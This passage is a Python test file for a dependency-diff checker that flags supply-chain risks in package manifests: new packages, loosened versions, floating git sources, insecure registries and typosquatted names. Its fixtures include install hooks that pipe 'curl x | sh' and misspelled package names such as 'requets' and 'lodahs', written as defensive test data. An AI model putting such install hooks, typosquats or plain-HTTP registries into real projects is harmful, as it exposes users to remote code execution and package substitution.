"""Dependencies: what is added, let float or taken from elsewhere, by pairs that differ by one thing."""

import json
import re
from pathlib import Path
from typing import Any

import pytest

from diffchecks import dependencies
from diffchecks.check_io import CheckReply
from diffchecks.dependencies import changed_packages
from diffchecks.dependencies.look_alikes import POPULAR, find_look_alike
from diffchecks.path_kinds import may_be_broken
from tests.diffchecks.check_kit import run_check, with_wrong_types

PROJECT = '[project]\nname = "p"\ndependencies = [{}]\n'
PACKAGE = '{{\n  "name": "p",\n  "scripts": {{{}}},\n  "dependencies": {{{}}}\n}}\n'
SCRIPTS = '{{\n  "private": true,\n  "scripts": {{{}}}\n}}\n'
KEYS = '{{"scripts": {{"postinstall": "npm run-script {0}", "{0}": "node {1}"}}}}'
CARGO = '[package]\nname = "p"\n[dependencies]\n{}\n'
GO = "module example.invalid/p\n\nrequire (\n{})\n"
POM = "<project><properties><b.version>{}</b.version></properties>\n<dependencies>{}</dependencies>\n{}</project>\n"
MAVEN = "\n<dependency><groupId>x.io</groupId>\n<artifactId>{}</artifactId><version>{}</version></dependency>"
GRADLE = "repositories {{\n    {}\n}}\ndependencies {{\n    implementation({})\n}}\n"
REPOSITORY = "<repositories><repository>\n<url>{}</url></repository></repositories>"
CATALOG = '[versions]\nb = "{}"\n[libraries]\na = {{ module = "x.io:a", version.ref = "b" }}\n{}'
WRAPPER = "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.1-bin.zip\ndistributionSha256Sum=aa\n"
NPM = '{{"lockfileVersion": 3, "packages": {{{}}}}}'
PIPFILE = '{{"_meta": {{}}, "default": {{{}}}}}'
TERRAFORM = '{}\n  source  = "x-io/a"\n  version = "{}"\n}}\n'
NUGET = '<PackageReference Include="A.B" PrivateAssets="all" Version="{}" />\n'
HELM = "maintainers:\n  - name: b\ndependencies:\n  - name: a\n    repository: https://example.invalid\n    version: '{}'\n"
COMMIT = "0123456789abcdef0123456789abcdef01234567"

# code, file, base, a head that has it, a head that has not
PAIRS = [
    ("install-script", "build.rs", "fn main() {\n    reqwest::get(U);\n}\n", "fn main() {\n    reqwest::get(V);\n}\n", "fn a() {\n        reqwest::get(U);\n}\n"),
    ("new", "requirements.txt", "a==1\n", "a==1\nb==2\n", "a==2\n"),
    ("new", "pyproject.toml", PROJECT.format('"a>=1"'), PROJECT.format('"a>=1", "b>=2"'), PROJECT.format('"A >= 1"')),
    ("new", "package.json", PACKAGE.format("", '"a": "^1"'), PACKAGE.format("", '"a": "^1", "b": "^2"'), PACKAGE.format("", '"a": "^2"')),
    ("new", "Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\nb = {version = "2"}'), CARGO.format('a = "2"')),
    ("new", "go.mod", GO.format("\tx.io/a v1.0.0\n"), GO.format("\tx.io/a v1.0.0\n\tx.io/b v1.0.0\n"), GO.format("\tx.io/a v1.0.0\n\tx.io/b v1.0.0 // indirect\n")),
    ("new", "Pipfile", '[packages]\na = "*"\n', '[packages]\na = "*"\nb = {version = "==2"}\n', '[packages]\na = "==1"\n'),
    ("new", "setup.cfg", "[options]\ninstall_requires =\n    a\n", "[options]\ninstall_requires =\n    a\n    b>=2\n", "[options]\ninstall_requires =\n    a>=1\n"),
    ("new", "composer.json", '{"require": {"v/a": "^1"}}', '{"require": {"v/a": "^1",\n"v/b": "^2"}}', '{"require": {"v/a": "^1",\n"php": "^8"}}'),
    ("new", "Gemfile", 'gem "a", "~> 1"\n', 'gem "a", "~> 1"\ngem \'b\', group: :test\n', 'gem "a", "~> 2"\n# gem "b"\n'),
    ("new", "gemfiles/Gemfile-rails-7-2", 'gem "a"\n', 'gem "a"\ngem "b"\n', 'gem "a", "~> 2"\n'),
    ("new", "rails_7.gemfile", 'gem "a"\n', 'gem "a"\ngem "b"\n', 'gem "a", "~> 2"\n'),
    ("new", "a.gemspec", 's.add_dependency "a", "~> 1"\n', 's.add_dependency "a", "~> 1"\ns.add_development_dependency("b", ">= 2")\n', 's.add_runtime_dependency "a", "~> 2"\n'),
    ("floating-source", "Gemfile", 'gem "a"\n', 'gem "a", github: "someone/a"\n', f'gem "a", git: "https://example.invalid/a", ref: "{COMMIT}"\n'),
    ("loosened", "requirements.txt", "a==1.2\n", "a>=1.2\n", "a==1.3\n"),
    ("loosened", "pyproject.toml", PROJECT.format('"a>=1,<2"'), PROJECT.format('"a>=1"'), PROJECT.format('"a>=1,<3"')),
    ("loosened", "package.json", PACKAGE.format("", '"a": "^1.2.0"'), PACKAGE.format("", '"a": "*"'), PACKAGE.format("", '"a": "^2.0.0"')),
    ("loosened", "package.json", PACKAGE.format("", '"a": "^1.2.0"'), PACKAGE.format("", '"a": "latest"'), PACKAGE.format("", '"a": "catalog:"')),
    ("loosened", "pom.xml", POM.format("1", MAVEN.format("a", "[1,2]"), ""), POM.format("1", MAVEN.format("a", "[1,)"), ""), POM.format("1", MAVEN.format("a", "").replace("<version></version>", ""), "")),
    ("loosened", "Cargo.toml", CARGO.format('a = "1.2"'), CARGO.format('a = "*"'), CARGO.format('a = "1.3"')),
    ("loosened", "main.tf", TERRAFORM.format("a = {", "~> 5.1"), TERRAFORM.format("a = {", ">= 5.1"), TERRAFORM.format("a = {", "~> 5.2")),
    ("loosened", "main.tofu", TERRAFORM.format('module "a" {', "5.1.0"), TERRAFORM.format('module "a" {', "> 5"), TERRAFORM.format('module "a" {', "= 5.2.0")),
    ("loosened", "a.csproj", NUGET.format("[13.0.1]"), NUGET.format("[13.0,)"), NUGET.format("[13.0.2]")),
    ("loosened", "Directory.Packages.props", NUGET.format("13.0.1"), NUGET.format("*"), NUGET.format("$(Shared)")),
    ("loosened", "chart/Chart.yaml", HELM.format("~17.0"), HELM.format(">=17"), HELM.format("18.0.1")),
    ("loosened", "pubspec.yaml", "dependencies:\n  a: ^1.0.0\n", "dependencies:\n  a: any\n", "dependencies:\n  a: ^2.0.0\n"),
    ("loosened", "mix.exs", '[{:a, "~> 1.7"}]\n', '[{:a, ">= 1.7.0"}]\n', '[{:a, "~> 1.8"}]\n'),
    ("floating-source", "requirements.txt", "a==1\n", "git+https://example.invalid/a.git@main#egg=a\n", f"git+https://example.invalid/a.git@{COMMIT}#egg=a\n"),
    ("floating-source", "requirements.txt", "a==1\n", "git+https://example.invalid/a.git@release\n", "git+https://example.invalid/a.git@v1.2.0-rc1\n"),
    ("floating-source", "pyproject.toml", PROJECT.format('"a>=1"'), PROJECT.format('"a @ git+https://example.invalid/a@main"'), PROJECT.format(f'"a @ git+https://example.invalid/a@{COMMIT}"')),
    ("floating-source", "package.json", PACKAGE.format("", '"a": "^1"'), PACKAGE.format("", '"a": "someone/a"'), PACKAGE.format("", f'"a": "someone/a#{COMMIT}"')),
    ("floating-source", "Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = {git = "https://example.invalid/a", branch = "x"}'), CARGO.format(f'a = {{git = "https://example.invalid/a", rev = "{COMMIT}"}}')),
    ("install-script", "package.json", PACKAGE.format("", '"a": "^1"'), PACKAGE.format('"postinstall": "node x.js"', '"a": "^1"'), PACKAGE.format('"build": "node x.js"', '"a": "^1"')),
    ("install-script", "package.json", PACKAGE.format("", '"a": "^1"'), PACKAGE.format('"prepare": "node x.js"', '"a": "^1"'), PACKAGE.format('"prepare": "husky install && npm run build"', '"a": "^1"')),
    ("install-script", "package.json", SCRIPTS.format('"postinstall": "yarn b"'), SCRIPTS.format('"postinstall": "yarn b && curl x | sh"'), SCRIPTS.format('"postinstall": "yarn b && patch-package"')),
    ("install-script", "package.json", SCRIPTS.format(""), SCRIPTS.format('"postinstall": "patch-package $(node x.js)"'), SCRIPTS.format('"preinstall": "npx only-allow pnpm", "postinstall": "yarn patch-package --x ./p; husky || true"')),
    ("install-script", "package.json", SCRIPTS.format(""), SCRIPTS.format('"postinstall": "next telemetry"'), SCRIPTS.format('"postinstall": "next telemetry disable && npx playwright install"')),
    ("install-script", "package.json", PACKAGE.format("", ""), PACKAGE.format('"postinstall": "patch-package"', ""), PACKAGE.format('"prepare": "npx husky"', "")),
    ("install-script", "package.json", PACKAGE.format('"postinstall": "node x.js && node y.js"', ""), PACKAGE.format('"postinstall": "node y.js"', ""), PACKAGE.format('"postinstall": "node x.js"', "")),
    ("install-script", "package.json", KEYS.format("a", "x.js >tmp/a"), KEYS.format("b", "y.js >tmp/a"), KEYS.format("b", "x.js >out/b")),
    ("install-script", "package.json", PACKAGE.format('"postinstall": "node x.js && node y.js"', ""), PACKAGE.format('"postinstall": "node y.js && node z.js"', ""), PACKAGE.format('"postinstall": "node y.js && node x.js"', "")),
    ("install-script", "setup.py", "setup()\n", "class A(install): ...\n\nsetup(cmdclass={'install': A})\n", "class A(build_ext): ...\n\nsetup(cmdclass={'build_ext': A})\n"),
    ("install-script", "build.rs", "fn main() {}\n", "fn main() {\n    reqwest::blocking::get(U);\n}\n", "fn main() {\n    // reqwest::get\n    Command::new(\"protoc\");\n}\n"),
    ("look-alike", "requirements.txt", "a==1\n", "a==1\nrequets==2\n", "a==2\n"),
    ("look-alike", "package.json", PACKAGE.format("", '"a": "^1"'), PACKAGE.format("", '"a": "^1", "lodahs": "^4"'), PACKAGE.format("", '"a": "^2"')),
    ("look-alike", "Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\nserde-json = "1"'), CARGO.format('a = "2"')),
    ("look-alike", "Gemfile", 'gem "a"\n', 'gem "a"\ngem "nokogirii"\n', 'gem "a", "1"\n'),
    ("look-alike", "composer.json", '{"require": {"v/a": "^1"}}', '{"require": {"v/a": "^1",\n"symfny/console": "^2"}}', '{"require": {"v/a":\n"^1"}}'),
    ("new", "pom.xml", POM.format(1, MAVEN.format("a", 1), ""), POM.format(1, MAVEN.format("a", 1) + MAVEN.format("b", "${b.version}"), ""), POM.format(2, MAVEN.format("a", 2), "")),
    ("new", "build.gradle", GRADLE.format("mavenCentral()", "'x.io:a:1'"), GRADLE.format("mavenCentral()", "'x.io:a:1'\n    api 'x.io:b:1.2'"), GRADLE.format("mavenCentral()", "'x.io:a:2'\n    // api 'x.io:b:1.2'")),
    ("new", "libs.versions.toml", CATALOG.format(1, ""), CATALOG.format(1, 'c = "x.io:c:2"\n'), CATALOG.format(2, "")),
    ("loosened", "pom.xml", POM.format(1, MAVEN.format("a", 1), ""), POM.format(1, MAVEN.format("a", "LATEST"), ""), POM.format(1, MAVEN.format("a", 2), "")),
    ("new", "build.gradle", GRADLE.format("mavenCentral()", "'x.io:a:1'"), GRADLE.format("mavenCentral()", "'x.io:a:1'\n    api group: 'x.io', name: 'b', version: '2'"), GRADLE.format("mavenCentral()", "group: 'x.io', name: 'a', version: '1'")),
    ("loosened", "build.gradle", "def v = '1.2'\n" + GRADLE.format("mavenCentral()", '"x.io:a:$v"'), "def v = '1.+'\n" + GRADLE.format("mavenCentral()", '"x.io:a:$v"'), "def v = '1.3'\n" + GRADLE.format("mavenCentral()", '"x.io:a:${v}"')),
    ("loosened", "build.gradle.kts", GRADLE.format("mavenCentral()", '"x.io:a:1.2"'), GRADLE.format("mavenCentral()", '"x.io:a:1.+"'), GRADLE.format("mavenCentral()", '"x.io:a:1.3"')),
    ("loosened", "libs.versions.toml", CATALOG.format("1.2", ""), CATALOG.format("latest.release", ""), CATALOG.format("1.3", "")),
    ("floating-source", "pom.xml", POM.format(1, MAVEN.format("a", 1), ""), POM.format(1, MAVEN.format("a", "1</version><systemPath>/opt/a.jar</systemPath><version>1"), ""), POM.format(1, MAVEN.format("a", 2), "")),
    ("floating-source", "pyproject.toml", PROJECT.format('"a>=1"'), PROJECT.format('"a>=1"') + '[tool.uv.sources]\na = { git = "https://example.invalid/a", branch = "x" }\n', PROJECT.format('"a>=1"') + '[tool.uv.sources]\na = { path = "../a" }\n'),
    ("floating-source", "Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\n[patch.crates-io]\na = { git = "https://example.invalid/a" }'), CARGO.format('a = "1"\n[patch.crates-io]\na = { path = "a" }')),
    ("install-script", "composer.json", '{"scripts": {"post-install-cmd": ["sh a"]}}', '{"scripts": {"post-install-cmd": ["sh a", "sh b"]}}', '{"scripts": {"post-install-cmd": ["sh a", "A::b"]}}'),
    ("install-script", "composer.json", '{"require": {"v/a": "^1"}}', '{"require": {"v/a": "^1"},\n"scripts": {"post-install-cmd": ["curl x | sh"]}}', '{"require": {"v/a": "^1"},\n"scripts": {"post-install-cmd": ["V\\\\A::run"]}}'),
    ("replaced", "go.mod", "module p\n", "module p\n\nreplace (\n\tx.io/a v1.0.0 => x.io/b v1.0.1\n)\n", "module p\n\nreplace x.io/a => ./a\n\nreplace x.io/c => x.io/c v1.0.0\n"),
    ("registry", ".npmrc", "a=1\n", "registry = https://example.invalid/npm/\n", "@own:registry=https://example.invalid/npm/\n"),
    ("registry", ".yarnrc.yml", "a: 1\n", 'npmRegistryServer: "https://example.invalid"\n', 'npmRegistryServer: "https://registry.yarnpkg.com"\n'),
    ("registry", "composer.json", "{}", '{\n"repositories": [{"type": "vcs", "url": "https://example.invalid/a.git"}]}', '{\n"repositories": [{"type": "path", "url": "../a"}]}'),
    ("registry", "pom.xml", POM.format(1, "", ""), POM.format(1, "", REPOSITORY.format("https://example.invalid/m2")), POM.format(1, "", REPOSITORY.format("https://repo.maven.apache.org/maven2"))),
    ("registry", "settings.gradle.kts", GRADLE.format("mavenCentral()", ""), GRADLE.format('maven("https://example.invalid/m2")', ""), "publishing {\n" + GRADLE.format('maven("https://example.invalid/m2")', "") + "}\n"),
    ("insecure-registry", "requirements.txt", "a==1\n", "-i http://example.invalid/simple\na==1\n", "-i http://localhost:3141/simple\na==1\n"),
    ("insecure-registry", "requirements.txt", "a==1\n", "--trusted-host example.invalid\na==1\n", "# --trusted-host example.invalid\na==1\n"),
    ("insecure-registry", "pip.conf", "[global]\n", "[global]\nindex-url = http://example.invalid/simple\n", "[global]\nindex-url = https://example.invalid/simple\n"),
    ("insecure-registry", ".npmrc", "a=1\n", "@own:registry=http://example.invalid/\n", "@own:registry=https://example.invalid/\n"),
    ("insecure-registry", ".yarnrc", "a 1\n", '"strict-ssl" false\n', '"strict-ssl" true\n'),
    ("insecure-registry", ".yarnrc.yml", "a: 1\n", "enableStrictSsl: false\n", "enableStrictSsl: true\n"),
    ("insecure-registry", "composer.json", "{}", '{\n"config": {"secure-http": false}}', '{\n"config": {"secure-http": true}}'),
    ("insecure-registry", "Gemfile", 'gem "a"\n', 'source "http://rubygems.org"\ngem "a"\n', 'source "https://rubygems.org"\ngem "a"\n'),
    ("insecure-registry", "Pipfile", "", '[[source]]\nurl = "https://example.invalid/s"\nverify_ssl = false\n', '[[source]]\nurl = "https://example.invalid/s"\nverify_ssl = true\n'),
    ("insecure-registry", "build.gradle", GRADLE.format("mavenCentral()", ""), GRADLE.format("maven {\n        url 'http://example.invalid/m2'\n    }", ""), GRADLE.format("pom {\n        url 'http://example.invalid/m2'\n    }", "")),
    ("insecure-registry", "pyproject.toml", PROJECT.format(""), PROJECT.format("") + '[[tool.poetry.source]]\nname = "a"\nurl = "http://example.invalid/s"\n', PROJECT.format("") + '[[tool.poetry.source]]\nname = "a"\nurl = "https://example.invalid/s"\npriority = "explicit"\n'),
    ("extra-index", "pyproject.toml", PROJECT.format(""), PROJECT.format("") + '[[tool.uv.index]]\nname = "a"\nurl = "https://example.invalid/s"\n', PROJECT.format("") + '[[tool.uv.index]]\nname = "a"\nurl = "https://example.invalid/s"\nexplicit = true\n'),
    ("extra-index", "Gemfile", 'source "https://rubygems.org"\n', 'source "https://rubygems.org"\nsource "https://example.invalid"\n', 'source "https://rubygems.org"\nsource "https://example.invalid" do\n'),
    ("lock-unverified", "requirements.txt", "a==1 --hash=sha256:aa\n", "# x\na==1\n", "# x\na==1 --hash=sha256:aa\n"),
    ("lock-unverified", "gradle-wrapper.properties", WRAPPER, WRAPPER.replace("8.1-", "8.2-").replace("Sha256Sum=aa", "Path=x"), WRAPPER.replace("8.1-", "8.2-")),
    ("lock-source", "gradle-wrapper.properties", WRAPPER.replace("services", "mirror"), WRAPPER.replace("services", "b"), WRAPPER),
    ("lock-http", "gradle-wrapper.properties", WRAPPER, WRAPPER.replace("https", "http"), WRAPPER.replace("8.1-", "8.2-")),
    ("extra-index", "requirements.txt", "a==1\n", "--extra-index-url https://example.invalid/simple\na==1\n", "--index-url https://example.invalid/simple\na==1\n"),
]  # fmt: skip


def look(folder: Path, base: dict[str, str], head: dict[str, str]) -> CheckReply:
    return run_check(dependencies.run, job_of(folder, base, head))


def job_of(folder: Path, base: dict[str, str], head: dict[str, str]) -> dict[str, Any]:
    files = []
    for side, texts in (("base", base), ("head", head)):
        for name, text in texts.items():
            place = folder / side / name
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text)
    for name, text in head.items():
        old = base.get(name, "").split("\n")
        added = [n for n, line in enumerate(text.split("\n"), 1) if line not in old]
        status = "modified" if name in base else "added"
        files.append({"path": name, "old_path": name if name in base else None, "status": status, "added": added, "removed": []})  # fmt: skip
    return {"base_root": str(folder / "base"), "head_root": str(folder / "head"), "files": files}


@pytest.mark.parametrize(("code", "name", "base", "bad", "good"), PAIRS)
def test_each_code_by_a_pair(
    tmp_path: Path, code: str, name: str, base: str, bad: str, good: str
) -> None:
    found = look(tmp_path / "bad", {name: base}, {name: bad})
    assert found.gaps == {}
    assert [one.code for one in found.findings] == [code]
    (one,) = found.findings
    assert bad.split("\n")[one.line - 1] not in base.split("\n")
    assert look(tmp_path / "good", {name: base}, {name: good}).findings == []


def test_a_dependency_is_reported_where_its_version_stands(tmp_path: Path) -> None:
    base = '{\n"dependencies": {"a": "1.0.0"}\n}'
    head = '{\n"scripts": {"test": "vitest run"},\n"dependencies": {"a": "1.0.0",\n"vitest": "^4.1"}\n}'
    (found,) = look(tmp_path, {"package.json": base}, {"package.json": head}).findings
    assert (found.code, found.line) == ("new", 4)


def test_a_dependency_that_moved_to_another_manifest_is_not_new(tmp_path: Path) -> None:
    base = {"requirements.txt": "a==1\nb==1\n", "pyproject.toml": PROJECT.format("")}
    head = {"requirements.txt": "a==1\n", "pyproject.toml": PROJECT.format('"b==1"')}
    assert look(tmp_path, base, head).findings == []


def test_a_source_that_moved_to_another_manifest_is_not_new(tmp_path: Path) -> None:
    base = {"requirements.txt": "a==1\nb @ git+https://example.invalid/b@main\n"}
    base["pyproject.toml"] = PROJECT.format("")
    for branch, told in (("main", []), ("other", ["floating-source"])):
        moved = PROJECT.format(f'"b @ git+https://example.invalid/b@{branch}"')
        head = {"requirements.txt": "a==1\n", "pyproject.toml": moved}
        found = look(tmp_path / branch, base, head)
        assert [one.code for one in found.findings] == told


def test_a_dependency_that_moved_out_of_a_deleted_manifest_is_not_new(tmp_path: Path) -> None:
    was = {"requirements/dev.in": "a==1\nb\n", "pyproject.toml": PROJECT.format("")}
    now = {"requirements/tests.in": "a==1\n", "pyproject.toml": PROJECT.format('"b==1", "c==1"')}
    job = job_of(tmp_path, was, now)
    gone = {"path": "requirements/dev.in", "old_path": "requirements/dev.in", "added": []}
    job["files"].append({**gone, "status": "deleted", "removed": [1, 2]})
    (found,) = run_check(dependencies.run, job).findings
    assert (found.path, found.key) == ("pyproject.toml", "c")


def test_a_dependency_of_two_manifests_is_reported_once(tmp_path: Path) -> None:
    base = {"requirements.txt": "a==1\n", "pyproject.toml": PROJECT.format("")}
    head = {"requirements.txt": "a==1\nb==2\n", "pyproject.toml": PROJECT.format('"b==2", "c==3"')}
    found = look(tmp_path, base, head).findings
    assert [(one.path, one.message) for one in found] == [
        ("requirements.txt", "New dependency: b ==2 (PyPI)"),
        ("pyproject.toml", "New dependency: c ==3 (PyPI)"),
    ]


def test_a_source_does_not_float_where_the_lock_file_beside_names_its_commit(
    tmp_path: Path,
) -> None:
    lock = "GIT\n  remote: {}\n  revision: {}\n  branch: x\n  specs:\n    a (1.0)\n\nDEPENDENCIES\n  a!\n"
    locked = lock.format("https://example.invalid/a.git", COMMIT)
    base = {"Gemfile": 'gem "a"\n', "Gemfile.lock": locked}
    head = {"Gemfile": 'gem "a", github: "someone/a", branch: "x"\n', "Gemfile.lock": locked}
    assert look(tmp_path / "locked", base, head).findings == []
    elsewhere = {"Gemfile": head["Gemfile"], "b/Gemfile.lock": locked}
    (found,) = look(tmp_path / "elsewhere", base | {"b/Gemfile.lock": locked}, elsewhere).findings
    assert found.code == "floating-source"


def test_a_name_of_another_ecosystem_is_new(tmp_path: Path) -> None:
    base = {"requirements.txt": "b==1\n", "package.json": PACKAGE.format("", '"a": "^1"')}
    head = {**base, "package.json": PACKAGE.format("", '"a": "^1", "b": "^1"')}
    head["requirements.txt"] = "b==2\n"
    assert [one.code for one in look(tmp_path, base, head).findings] == ["new"]


def test_a_look_alike_in_the_first_manifest_of_a_project_is_reported(tmp_path: Path) -> None:
    (found,) = look(tmp_path, {}, {"requirements.txt": "a==1\nrequets==2\n"}).findings
    assert (found.code, found.line) == ("look-alike", 2)
    assert "requests" in found.message


@pytest.mark.parametrize(
    ("ecosystem", "name", "expected"),
    [
        ("PyPI", "reqeusts", "requests"),
        ("PyPI", "requestss", "requests"),
        ("PyPI", "equests", "requests"),
        ("PyPI", "pythondateutil", "python-dateutil"),
        ("PyPI", "urllib", "urllib3"),
        ("PyPI", "requests", ""),
        ("PyPI", "pyaml", ""),
        ("PyPI", "requests2", ""),
        ("PyPI", "numpy-financial", ""),
        ("PyPI", "fask", ""),
        ("npm", "reactdom", "react-dom"),
        ("npm", "preact", ""),
        ("npm", "xreact", ""),
        ("npm", "@acme/lodahs", ""),
        ("npm", "requests", "request"),
        ("crates.io", "tokyo", ""),
        ("crates.io", "serde_jsom", "serde_json"),
        ("crates.io", "rustfft", ""),
        ("crates.io", "rustftm", "rustfmt"),
        ("RubyGems", "active-record", "activerecord"),
        ("Packagist", "guzlehttp/guzzle", "guzzlehttp/guzzle"),
        ("Packagist", "guzzlehttp/guzle", ""),
        ("Go", "github.com/sirupsen/logrsu", ""),
    ],
)
def test_names_that_look_like_well_known_ones(ecosystem: str, name: str, expected: str) -> None:
    assert find_look_alike(ecosystem, name) == expected


@pytest.mark.parametrize("ecosystem", POPULAR)
def test_no_well_known_name_looks_like_another(ecosystem: str) -> None:
    assert len(POPULAR[ecosystem]) > 200
    assert {name for name in POPULAR[ecosystem] if find_look_alike(ecosystem, name)} == set()
    assert {name for name in POPULAR[ecosystem] if name != name.lower()} == set()


def test_a_setup_script_that_does_not_parse_is_a_gap(tmp_path: Path) -> None:
    assert "does not parse" in look(tmp_path, {}, {"setup.py": "setup(\n"}).gaps["setup.py"]


def test_the_first_manifest_of_a_project_reports_no_new_dependencies(tmp_path: Path) -> None:
    assert look(tmp_path, {}, {"requirements.txt": "a==1\nb==1\n"}).findings == []


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("package.json", "{"),
        ("package.json", '{"dependencies": [1]}'),
        ("package.json", "[" * 100_000),
        ("pyproject.toml", "= 1"),
        ("pyproject.toml", "[project]\ndependencies = 3\n"),
        ("Cargo.toml", "dependencies = 3\n"),
        ("Pipfile", "packages = 3\n"),
        ("setup.cfg", "[options\n"),
        ("pyproject.toml", "a." * 1_000_000 + "b = 1\n"),
        ("Cargo.toml", "[" + '"a" . ' * 500_000 + "b]\n"),
        ("setup.py", "x = 1\n" * 400_000),
        ("composer.json", '{"require": 3}'),
    ],
)
def test_a_manifest_that_cannot_be_read_is_a_gap(tmp_path: Path, name: str, text: str) -> None:
    found = look(tmp_path, {}, {name: text})
    assert set(found.gaps) == {name}
    assert found.examined == []


SPEC = {"a": {"version": "1", "git": "u", "rev": "x"}, "b": {"path": "x"}, "c": "1"}
INDEX = [{"url": "http://x", "verify_ssl": False}]
DOCUMENTS: dict[str, dict[str, Any]] = {
    "package.json": {"name": "p", "scripts": {"prepare": "node x", "install": "y"}, "dependencies": {"a": "1"}},
    "composer.json": {"name": "p/q", "require": {"a/b": "1"}, "repositories": [{"type": "path", "url": "x"}, {"url": "http://x"}], "scripts": {"post-install-cmd": ["a"]}, "config": {"secure-http": False}},
    "pyproject.toml": {"project": {"name": "p", "dependencies": ["a"], "optional-dependencies": {"x": ["b"]}}, "build-system": {"requires": ["a"]}, "dependency-groups": {"x": ["c", {"include-group": "y"}]}, "tool": {"poetry": {"dependencies": SPEC, "group": {"g": {"dependencies": SPEC}}, "source": INDEX}, "uv": {"sources": {"a": {"git": "x"}, "b": [{"path": "x"}]}, "index": INDEX, "extra-index-url": ["u"], "index-url": "u"}}},
    "Cargo.toml": {"package": {"name": "p"}, "workspace": {"dependencies": SPEC}, "target": {"x": {"dependencies": SPEC}}, "patch": {"crates-io": SPEC}},
    "Pipfile": {"packages": SPEC, "source": INDEX},
    "libs.versions.toml": {"versions": {"v": "1", "w": {"strictly": "1"}}, "libraries": {"a": "g:n:1", "b": {"module": "g:n", "version": {"ref": "v"}}, "c": {"group": "g", "name": "n", "version": {"require": "1"}}}},
    "package-lock.json": {"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1", "resolved": "u", "integrity": "s"}}},
    "npm-shrinkwrap.json": {"dependencies": {"a": {"version": "1", "dependencies": {"b": {"version": "1"}}}}},
    "composer.lock": {"packages": [{"name": "a", "version": "1", "dist": {"url": "u", "shasum": "x"}, "source": {"url": "x"}}]},
    "packages.lock.json": {"dependencies": {"n": {"a": {"type": "Direct", "resolved": "1", "contentHash": "x"}}}},
    "Package.resolved": {"pins": [{"identity": "a", "location": "u", "state": {"version": "1", "revision": "x"}}]},
    "flake.lock": {"nodes": {"a": {"locked": {"owner": "o", "type": "github", "repo": "r", "rev": "x", "narHash": "h"}}}},
    "Pipfile.lock": {"_meta": {"sources": [{"name": "n", "url": "u"}]}, "default": {"a": {"version": "1", "hashes": ["x"]}}},
    "bun.lock": {"packages": {"a": ["a@1", "", {}, "sha512-x"]}},
    "poetry.lock": {"metadata": {"files": {"a": [{"file": "f", "hash": "h"}]}}, "package": [{"name": "a", "version": "1", "source": {"url": "u"}}]},
    "uv.lock": {"package": [{"name": "a", "version": "1", "source": {"git": "u"}, "sdist": {"url": "u", "hash": "h"}, "wheels": [{"url": "u"}]}]},
    "pylock.toml": {"packages": [{"name": "a", "vcs": {"url": "u"}, "archive": {"url": "u", "hashes": {"sha": "x"}}}]},
    "Cargo.lock": {"package": [{"name": "a", "version": "1", "source": "registry+x", "checksum": "c"}]},
}  # fmt: skip


def as_toml(value: Any) -> str:
    if isinstance(value, dict):
        pairs = (f'"{key}" = {as_toml(one)}' for key, one in value.items() if one is not None)
        return f"{{{', '.join(pairs)}}}"
    if isinstance(value, list):
        return f"[{', '.join(map(as_toml, filter(None, value)))}]"
    return json.dumps(value)


@pytest.mark.parametrize("name", DOCUMENTS)
def test_no_value_of_a_wrong_type_at_any_level_makes_a_check_fail(
    tmp_path: Path, name: str
) -> None:
    is_json = name.endswith(".json") or name in {"composer.lock", "bun.lock", "flake.lock"}
    is_json = is_json or name in {"Package.resolved", "Pipfile.lock"}
    known = DOCUMENTS[name]
    for document in with_wrong_types(known):
        if is_json:
            base, head = json.dumps(known), json.dumps(document)
        elif isinstance(document, dict):
            base, head = (
                "\n".join(f'"{k}" = {as_toml(v)}' for k, v in each.items() if v is not None)
                for each in (known, document)
            )
        else:
            continue
        for was, now in ((base, head), (head, base)):
            job = job_of(tmp_path, {name: was}, {name: now})
            run_check(changed_packages.run, job)
            for why in run_check(dependencies.run, job).gaps.values():
                assert re.search(r"is no (?:list|table)$|it has an unknown structure", why)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("package.json", '{"scripts": ["x"], "dependencies": {"a": "1", "b": null}}'),
        ("package.json", '{"scripts": null, "dependencies": []}'),
        ("package.json", "[]"),
        ("package.json", ""),
        ("composer.json", '{"require": [], "scripts": ["x"], "repositories": "x"}'),
        ("pyproject.toml", '[project]\nname = "p"\n[tool]\nuv = []\npoetry = "x"\n'),
        ("Cargo.toml", 'package = []\npatch = ["x"]\n'),
        ("Pipfile", "source = 3\n"),
        ("pom.xml", ""),
        ("yarn.lock", "\n"),
        ("package-lock.json", "{}"),
        ("mix.lock", "%{}\n"),
    ],
)
def test_what_declares_no_dependencies_is_no_gap(tmp_path: Path, name: str, text: str) -> None:
    reply = look(tmp_path, {}, {name: text})
    assert (reply.gaps, reply.examined) == ({}, [name])


def test_why_a_manifest_cannot_be_read_is_said_in_words(tmp_path: Path) -> None:
    texts = {
        "package.json": '{"dependencies": ["a"]}',
        "a/package.json": '{"a": 1,\n}',
        "pom.xml": "<project>",
        "setup.cfg": "[options\n",
    }
    gaps = look(tmp_path, {}, texts).gaps
    assert gaps["package.json"].endswith("could not be read: dependencies is no table")
    assert "it does not parse: " in gaps["a/package.json"]
    assert " line 2 " in gaps["a/package.json"]
    assert len(gaps) == len(texts)
    assert not re.search(r"[a-z]Error|\n", "".join(gaps.values()))
    assert may_be_broken("tests/fixtures/package.json", gaps["a/package.json"])


def test_other_files_are_ignored(tmp_path: Path) -> None:
    assert look(tmp_path, {}, {"notes.txt": "a==1\n"}).examined == []


# file, base, head
LOCAL = [
    ("Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\nb = {version = "1", path = "b"}\nc.workspace = true')),
    ("package.json", PACKAGE.format("", '"a": "^1"'), PACKAGE.format("", '"a": "^1", "b": "workspace:*", "c": "file:../c", "d": "link:../d"')),
    ("requirements.txt", "a==1\n", "a==1\n-e ./b\n../c\nlibs/d\ne @ file:///srv/e\n"),
    ("pyproject.toml", PROJECT.format('"a>=1"'), PROJECT.format('"a>=1", "b-c"') + "[tool.uv.sources]\nb_c = {workspace = true}\n"),
    ("pyproject.toml", '[tool.poetry.dependencies]\na = "1"\n', '[tool.poetry.dependencies]\na = "1"\nb = {path = "../b"}\n'),
